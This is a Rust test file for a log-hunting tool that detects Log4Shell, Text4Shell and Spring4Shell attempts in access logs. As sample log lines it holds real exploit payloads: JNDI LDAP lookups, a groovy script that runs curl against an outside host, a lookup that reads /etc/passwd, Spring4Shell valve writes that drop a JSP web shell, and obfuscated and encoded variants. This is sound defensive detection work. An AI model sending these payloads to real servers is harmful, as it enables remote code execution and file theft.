//! The three vulnerabilities through the whole hunter: every attempt names its CVE, `--only`
//! (`HuntConfig::vulnerabilities`) selects, Text4Shell attempts say what would have run,
//! Spring4Shell requests are found in any spelling with their valve writes and the follow-up
//! requests to the dropped file, and the indicator collectors keep the vulnerabilities.
//!
//! Payload keywords are assembled at run time (`concat!`) so that no scanner flags this file.

mod common;

use quell_hunt::{HuntConfig, Hunter, IndicatorSummary, SightingCollector, SourceReport, VulnSet, Vulnerability};
use quell_model::hunt::{Attempt, LOG4J_RECURSION, LOG4SHELL, SPRING4SHELL, TEXT4SHELL, Workable};
use quell_model::indicators::{IndicatorKind, Tlp};

const JNDI: &str = concat!("jn", "di");
const SCRIPT: &str = concat!("scr", "ipt");
const P: &str = "class.module.classLoader.resources.context.parent.pipeline.first";

fn hunt_with(config: HuntConfig, log: &str) -> Vec<Attempt> {
    let hunter = Hunter::new(config);
    let mut report = SourceReport::default();
    hunter.hunt_reader("test.log", &mut log.as_bytes(), &mut report);
    common::only_attempts(report.records)
}

fn hunt(log: &str) -> Vec<Attempt> {
    hunt_with(HuntConfig::new(), log)
}

fn access(ip: &str, uri: &str) -> String {
    format!("{ip} - - [31/Mar/2022:10:00:00 +0000] \"GET {uri} HTTP/1.1\" 200 12 \"-\" \"python-requests/2.27\"\n")
}

fn mixed_log() -> String {
    let mut log = String::new();
    log.push_str(&access("203.0.113.1", &format!("/?x=${{{JNDI}:ldap://198.51.100.7/a}}")));
    log.push_str(&access("203.0.113.2", &format!("/?q=%24%7B{SCRIPT}%3Ajavascript%3A1%2B1%7D")));
    log.push_str(&access("203.0.113.3", &format!("/?{P}.suffix=.jsp&{P}.prefix=shell")));
    log.push_str(&access("203.0.113.4", "/?x=${${::-${::-$${::-j}}}}"));
    log.push_str(&access("203.0.113.3", "/shell.jsp?cmd=id"));
    log
}

#[test]
fn every_attempt_names_its_vulnerability_and_only_selects() {
    let all = hunt(&mixed_log());
    let vulns: Vec<&str> = all.iter().map(|a| a.vulnerability.as_str()).collect();
    assert_eq!(vulns, [LOG4SHELL, TEXT4SHELL, SPRING4SHELL, LOG4J_RECURSION, SPRING4SHELL], "{all:#?}");
    for (only, want) in [
        ("log4shell", vec![LOG4SHELL, LOG4J_RECURSION]),
        ("CVE-2022-42889", vec![TEXT4SHELL]),
        ("spring4shell", vec![SPRING4SHELL, SPRING4SHELL]),
        ("text4shell,CVE-2021-44228", vec![LOG4SHELL, TEXT4SHELL, LOG4J_RECURSION]),
    ] {
        let config = HuntConfig { vulnerabilities: VulnSet::parse(only).expect("valid"), ..HuntConfig::new() };
        let got: Vec<String> = hunt_with(config, &mixed_log()).into_iter().map(|a| a.vulnerability).collect();
        assert_eq!(got, want, "--only {only}");
    }
    // The JSON contract only gains fields: an attempt written before `vulnerability` existed
    // reads as Log4Shell.
    let mut old = serde_json::to_value(&all[0]).expect("json");
    old.as_object_mut().expect("object").remove("vulnerability");
    let back: Attempt = serde_json::from_value(old).expect("old records still parse");
    assert_eq!(back.vulnerability, LOG4SHELL);
}

#[test]
fn indicators_keep_their_vulnerabilities() {
    let all = hunt(&mixed_log());
    let mut summary = IndicatorSummary::new();
    let mut sightings = SightingCollector::new(None);
    for a in &all {
        summary.add(a);
        sightings.add(a);
    }
    let ind = summary.indicators();
    let find = |kind: &str, value: &str| ind.iter().find(|i| i.indicator == kind && i.value == value);
    assert_eq!(find("written_file", "shell.jsp").map(|i| i.vulnerabilities.clone()), Some(vec![SPRING4SHELL.into()]));
    assert_eq!(find("valve_suffix", ".jsp").map(|i| i.count), Some(1));
    assert_eq!(find("script", "javascript:1+1").map(|i| i.vulnerabilities.clone()), Some(vec![TEXT4SHELL.into()]));
    // The Spring4Shell source appears in both the write and the web shell request.
    let src = find("source_ip", "203.0.113.3").expect("source");
    assert_eq!((src.count, src.vulnerabilities.clone()), (2, vec![SPRING4SHELL.into()]));
    let upload = sightings.finish(1_700_000_000, "h", "quell test", Tlp::Amber);
    let callback = upload
        .indicators
        .iter()
        .find(|i| i.kind == IndicatorKind::CallbackHost && i.value == "198.51.100.7")
        .expect("the Log4Shell callback host");
    assert_eq!(callback.vulnerabilities, [LOG4SHELL]);
    let spring = upload
        .indicators
        .iter()
        .find(|i| i.kind == IndicatorKind::SourceAddress && i.value == "203.0.113.3")
        .expect("the Spring4Shell source");
    assert_eq!(spring.vulnerabilities, [SPRING4SHELL]);
    // The file the log valve was made to write is uploaded as an indicator of its own.
    let dropped = upload
        .indicators
        .iter()
        .find(|i| i.kind == IndicatorKind::DroppedFile && i.value == "shell.jsp")
        .expect("the dropped file");
    assert_eq!(dropped.vulnerabilities, [SPRING4SHELL]);
}

#[test]
fn text4shell_reports_what_would_run() {
    let dns = format!("${{dns:address|x{}.oast.example}}", 7);
    let b64 = common::b64e(dns.as_bytes());
    let url = "${url:UTF-8:http://198.51.100.9:8080/p}".to_owned();
    let file = "${file:UTF-8:/etc/passwd}".to_owned();
    let log = format!(
        "{}{}{}{}",
        access("203.0.113.5", &format!("/?a=${{base64Decoder:{b64}}}")),
        access("203.0.113.5", &format!("/?a={}", url.replace('$', "%24").replace('{', "%7B").replace('}', "%7D"))),
        access("203.0.113.5", &format!("/?a={file}")),
        access(
            "203.0.113.5",
            &format!("/?a=${{{}:groovy:'curl%20http://198.51.100.10/x'.execute()}}", SCRIPT.to_uppercase())
        ),
    );
    let got = hunt(&log);
    assert_eq!(got.len(), 4, "{got:#?}");
    let t: Vec<_> = got.iter().map(|a| a.text4shell.clone().expect("text4shell detail")).collect();
    assert_eq!(t[0].dns, ["x7.oast.example"]);
    assert!(got[0].techniques.contains(&"base64_decoder".to_owned()));
    assert_eq!(got[0].targets[0].host, "x7.oast.example");
    assert_eq!(t[1].urls, ["http://198.51.100.9:8080/p"]);
    assert_eq!(got[1].decode_chain, ["url"]);
    assert_eq!((got[1].targets[0].host.as_str(), got[1].targets[0].port), ("198.51.100.9", Some(8080)));
    assert_eq!(t[2].files, ["/etc/passwd"]);
    assert_eq!(t[2].could_work.commons_text_1_10_0, Workable::Yes, "file stays a default lookup in 1.10.0");
    assert_eq!(t[3].scripts[0].engine, "groovy");
    assert!(got[3].techniques.contains(&"mixed_case_prefix".to_owned()));
    assert_eq!(got[3].commands[0].hosts, ["198.51.100.10"]);
    for x in &t[..2] {
        assert_eq!((x.could_work.commons_text_1_9, x.could_work.commons_text_1_10_0), (Workable::Yes, Workable::No));
    }
    // Log4j-style obfuscation or a broken payload sent to Commons Text: a probe that would not
    // run, reported as an attempt that is not functional.
    for probe in [
        format!("/?a=${{${{lower:S}}{}:js:1}}", &SCRIPT[1..]),
        format!("/?a=${{{SCRIPT}:js:1"),
        "/?a=${${::-d}ns:address|x9.oast.example}".to_owned(),
    ] {
        let got = hunt(&access("203.0.113.7", &probe));
        assert_eq!(got.len(), 1, "{probe}: {got:#?}");
        let t = got[0].text4shell.as_ref().expect("text4shell");
        assert!(!got[0].functional && !got[0].techniques.is_empty(), "{probe}");
        assert_eq!(t.could_work.commons_text_1_9, Workable::No, "{probe}");
    }
    // Log4j lookups mean nothing to Commons Text and the other way round: one record each.
    let both = access("203.0.113.6", &format!("/?a=${{{JNDI}:ldap://198.51.100.7/a}}&b=${{{SCRIPT}:js:1}}"));
    let got = hunt(&both);
    let v: Vec<&str> = got.iter().map(|a| a.vulnerability.as_str()).collect();
    assert_eq!(v, [TEXT4SHELL, LOG4SHELL]);
}

#[test]
fn benign_placeholders_stay_silent_for_every_vulnerability() {
    let mut log = String::new();
    for line in [
        "cfg=${env:HOME:-/home/app}",
        "template=${user.name}",
        "path=${sys:java.io.tmpdir}/x ${java:version} ${date:yyyy}",
        "${base64Encoder:abc} ${urlEncoder:a b} ${const:java.lang.Integer.MAX_VALUE}",
        "price=$${amount} ${FREE_PVS} ${x:-${y}}",
        "at java.lang.ClassLoader.loadClass(ClassLoader.java:522)",
        "GET /download?loader=classLoader HTTP/1.1",
        "GET /docs/shell.jsp HTTP/1.1",
    ] {
        log.push_str(line);
        log.push('\n');
    }
    assert!(hunt(&log).is_empty(), "{:#?}", hunt(&log));
}

#[test]
fn spring4shell_in_every_spelling_and_the_dropped_shell() {
    let enc = |s: &str| s.replace('.', "%2E");
    let pattern = "%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))";
    let log = format!(
        "{}{}{}{}{}{}{}{}",
        // A probe: no valve property.
        access("198.51.100.20", "/?class.module.classLoader.URLs%5B0%5D=0"),
        // The write, one property per request, names percent-encoded.
        access("198.51.100.21", &format!("/app?{}={pattern}", enc(&format!("{P}.pattern")))),
        access("198.51.100.21", &format!("/app?{P}.suffix=.jsp&{P}.directory=webapps/ROOT")),
        access("198.51.100.21", &format!("/app?{P}.prefix=tomcatwar&{P}.fileDateFormat=")),
        // The shell, from the writer and from someone else; and an unrelated page.
        access("198.51.100.21", "/tomcatwar.jsp?pwd=j&cmd=id"),
        access("198.51.100.99", "/tomcatwar.jsp?pwd=j&cmd=whoami"),
        access("198.51.100.21", "/index.jsp"),
        // Case Spring accepts (first letter swapped), and case it does not.
        access("198.51.100.22", "/?Class.Module.ClassLoader.DefaultAssertionStatus=true")
            + &access("198.51.100.23", "/?CLASS.MODULE.CLASSLOADER.DefaultAssertionStatus=true"),
    );
    // Letters percent-encoded.
    let log = format!("{log}{}", access("198.51.100.25", "/?%63lass.%6Dodule.%63lass%4Coader.URLs%5B0%5D=0"));
    // A form body some formats log after the request.
    let log = format!(
        "{log}198.51.100.24 - - [31/Mar/2022:10:00:00 +0000] \"POST /app HTTP/1.1\" 200 1 \"-\" \"x\" \"{P}.suffix=.jsp&{P}.prefix=body\"\n"
    );
    let got = hunt(&log);
    let s: Vec<_> = got.iter().map(|a| (a.line, a.spring4shell.clone().expect("spring detail"))).collect();
    let stages: Vec<(u64, &str)> = s.iter().map(|(l, d)| (*l, d.stage.as_str())).collect();
    assert_eq!(
        stages,
        [
            (1, "probe"),
            (2, "write"),
            (3, "write"),
            (4, "write"),
            (5, "webshell"),
            (6, "webshell"),
            (8, "probe"),
            (9, "probe"),
            (10, "probe"),
            (11, "write")
        ],
        "{got:#?}"
    );
    assert_eq!(s[1].1.pattern.as_deref(), Some("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"));
    assert!(got[1].techniques.contains(&"url_encoded_parameter".to_owned()));
    let last_write = &s[3].1;
    assert_eq!(last_write.written_file.as_deref(), Some("tomcatwar.jsp"));
    assert_eq!(last_write.directory.as_deref(), Some("webapps/ROOT"));
    assert_eq!(last_write.suffix.as_deref(), Some(".jsp"));
    assert_eq!(s[4].1.same_source, Some(true));
    assert_eq!(s[5].1.same_source, Some(false));
    assert_eq!(s[4].1.dropped_at.as_ref().map(|d| d.line), Some(4));
    assert!(got[6].functional && got[6].techniques.contains(&"capitalised_property".to_owned()));
    assert!(!got[7].functional, "Spring cannot bind CLASS.MODULE.CLASSLOADER; still an attempt");
    assert!(got[8].functional && got[8].techniques.contains(&"url_encoded_parameter".to_owned()));
    assert_eq!(s[9].1.written_file.as_deref(), Some("body.jsp"));
    assert!(got.iter().all(|a| a.vulnerability == SPRING4SHELL));
    // Without Spring4Shell, nothing of this is reported.
    let config = HuntConfig { vulnerabilities: VulnSet::none().with(Vulnerability::Log4Shell), ..HuntConfig::new() };
    assert!(hunt_with(config, &log).is_empty());
}

/// Percent-escaped letters anywhere in `classLoader` (the class the `oader` needle missed), and
/// escaped `%` (double encoding): every one found through the whole hunt, prefilter included;
/// benign lines with escaped letters or `header`/`reader` stay silent.
#[test]
fn spring4shell_with_escaped_letters_of_loader() {
    let attacks = [
        "/?class.module.classL%6Fader.URLs%5B0%5D=0",
        "/?class.module.classLo%61der.URLs%5B0%5D=0",
        "/?class.module.classLoa%64er.URLs%5B0%5D=0",
        "/?class.module.classLoad%65r.URLs%5B0%5D=0",
        "/?class.module.classLoade%72.URLs%5B0%5D=0",
        "/?class.module.class%4Coader.URLs%5B0%5D=0",
        "/?class.mod%75le.classLoade%72.URLs%5B0%5D=0",
        "/?class.module.classLoad%2565r.URLs%5B0%5D=0",
        "/?%63%6C%61%73%73.%6D%6F%64%75%6C%65.%63%6C%61%73%73%4C%6F%61%64%65%72.URLs%5B0%5D=0",
    ];
    // Escapes of capitals Spring does not bind (`claSsLoader`, `classLoadeR`): attempts all the
    // same, reported with `functional: false`.
    let probes = ["/?class.module.cla%53sLoader.URLs%5B0%5D=0", "/?class.module.classLoade%52.URLs%5B0%5D=0"];
    let benign = ["/search?q=header%20reader&x=%41BC", "/downloader?file=a%2Fb%25c", "/api/%64ocs?loader=1"];
    let mut log = String::new();
    for (i, path) in attacks.iter().chain(probes.iter()).chain(benign.iter()).enumerate() {
        log.push_str(&access(&format!("198.51.100.{}", 30 + i), path));
    }
    let got = hunt(&log);
    let lines: Vec<u64> = got.iter().map(|a| a.line).collect();
    assert_eq!(lines, (1..=(attacks.len() + probes.len()) as u64).collect::<Vec<_>>(), "{got:#?}");
    assert!(got.iter().all(|a| a.vulnerability == SPRING4SHELL), "{got:#?}");
    let functional: Vec<bool> = got.iter().map(|a| a.functional).collect();
    assert_eq!(functional, [vec![true; attacks.len()], vec![false; probes.len()]].concat(), "{got:#?}");
}
